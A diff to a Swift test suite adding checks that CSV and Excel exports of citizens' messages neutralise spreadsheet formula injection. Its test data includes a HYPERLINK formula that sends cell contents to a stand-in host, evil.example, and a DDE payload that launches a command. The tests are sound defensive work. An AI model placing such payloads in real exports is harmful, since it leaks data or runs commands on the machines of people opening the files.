@@ -38,6 +38,30 @@ struct WritersTests {
         #expect(text == "title,date,paragraphs,n,images\r\n" + expectedRow + expectedRow)
     }
 
+    /// Issue 13: a citizen's message titled like a formula must not run in Excel or WPS.
+    @Test func csvCellsNeverStartAFormula() {
+        let hostile = [#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                       "\t=1+1", "\r=1+1", "=1", "-", "+"]
+        var writer = CSVWriter(byteOrderMark: false)
+        var bytes: [UInt8] = []
+        for (k, title) in hostile.enumerated() {
+            writer.encode(Record([.init("id", .int(k)), .init("title", .string(title)), .init("list", .strings([title, "安全"])),
+                                  .init("score", .double(-3.5)), .init("count", .string("-3.5")), .init("phone", .string("+86"))]), into: &bytes)
+        }
+        var reader = try! CSVReader(bytes: bytes, input: "hostile.csv")
+        var rows = 0
+        while let cells = reader.nextRow() {
+            let title = cells[1], list = cells[2]
+            #expect(title.hasPrefix("'"), "\(title)")
+            #expect(title.dropFirst() == hostile[rows])
+            #expect(list.hasPrefix("'"), "\(list)")
+            #expect(cells[3] == "-3.5" && cells[4] == "-3.5" && cells[5] == "+86", "numbers stay numbers")
+            rows += 1
+        }
+        #expect(rows == hostile.count)
+        for safe in ["政协提案", "1+1", "a=b", "'quoted"] { #expect(CSVWriter.neutralized(safe) == safe) }
+    }
+
     @Test func atomicFileAppearsOnlyOnCommit() throws {
         let folder = try Fixtures.temporaryFolder()
         let path = folder.appendingPathComponent("out.jsonl").path
@@ -96,5 +120,74 @@ struct WritersTests {
             case .failure(let error): #expect(n % 10 == 3 && error.input == "\(n)")
             }
         }
+    }
+}
+
+/// Issue 17: offices live in spreadsheets. A workbook is a real .xlsx (a zip of sheet XML) that
+/// appears only on commit, keeps Chinese text, numbers as numbers, and never lets a formula run.
+@Suite("Excel workbooks")
+struct XLSXTests {
+    /// The sheet XML of a workbook, through Python's zipfile (the test reads what Excel would).
+    func sheetXML(_ path: String, sheet: Int = 1) throws -> String {
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        process.arguments = ["python3", "-c", "import sys,zipfile;sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet\(sheet).xml').decode())", path]
+        let out = Pipe()
+        process.standardOutput = out
+        try process.run()
+        let data = out.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 0, "not a zip with sheet\(sheet).xml: \(path)")
+        return String(decoding: data, as: UTF8.self)
+    }
+
+    @Test func recordsBecomeRowsAndNothingRuns() throws {
+        let folder = try Fixtures.temporaryFolder()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let path = folder.appendingPathComponent("t.xlsx").path
+        let sink = try RecordFormat.xlsx.sink(path)
+        try sink.write(Record([.init("id", .int(7)), .init("title", .string(#"=HYPERLINK("http://evil.example","点击")"#)),
+                               .init("score", .double(-3.5)), .init("terms", .strings(["政协", "提案"])), .init("none", .null)]))
+        try sink.write(Record([.init("id", .int(8)), .init("title", .string("小区停车难")), .init("score", .double(1)),
+                               .init("terms", .strings([])), .init("none", .null)]))
+        #expect(!FileManager.default.fileExists(atPath: path), "visible before commit")
+        try sink.commit()
+        let xml = try sheetXML(path)
+        #expect(xml.contains(">id<") && xml.contains(">title<") && xml.contains(">score<"), "header row")
+        #expect(xml.contains("'=HYPERLINK"), "the formula text is neutralised")
+        #expect(!xml.contains("<f>"), "no formula cell")
+        #expect(xml.contains("<v>-3.5</v>") && xml.contains("<v>7</v>"), "numbers stay numbers")
+        #expect(xml.contains("小区停车难") && xml.contains("政协\n提案"), "Chinese text and lists one item a line")
+        #expect(xml.contains("autoFilter") || xml.contains("pane"), "header frozen and filtered")
+        let leftovers = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.contains(".tmp-") }
+        #expect(leftovers.isEmpty)
+    }
+
+    @Test func anAbandonedWorkbookLeavesTheOldFile() throws {
+        let folder = try Fixtures.temporaryFolder()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let path = folder.appendingPathComponent("t.xlsx").path
+        try "old".write(toFile: path, atomically: false, encoding: .utf8)
+        let book = try XLSXWorkbook(path: path)
+        try book.addSheet("热点问题表", columns: ["热度排名", "问题ID"])
+        try book.write(Record([.init("热度排名", .int(1)), .init("问题ID", .int(1))]))
+        book.abandon()
+        #expect(try String(contentsOfFile: path, encoding: .utf8) == "old")
+        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["t.xlsx"])
+        #expect(throws: TopicsError.self) { try RecordFormat.xlsx.sink(nil) }
+    }
+
+    @Test func twoSheetsInOneWorkbook() throws {
+        let folder = try Fixtures.temporaryFolder()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let path = folder.appendingPathComponent("hot.xlsx").path
+        let book = try XLSXWorkbook(path: path)
+        try book.addSheet("热点问题表")
+        try book.write(Record([.init("热度排名", .int(1)), .init("问题描述", .string("丽发新城小区附近搅拌站噪音扰民"))]))
+        try book.addSheet("热点问题留言明细表")
+        try book.write(Record([.init("问题ID", .int(1)), .init("留言编号", .int(360104))]))
+        try book.commit()
+        #expect(try sheetXML(path, sheet: 1).contains("搅拌站"))
+        #expect(try sheetXML(path, sheet: 2).contains("<v>360104</v>"))
     }
 }
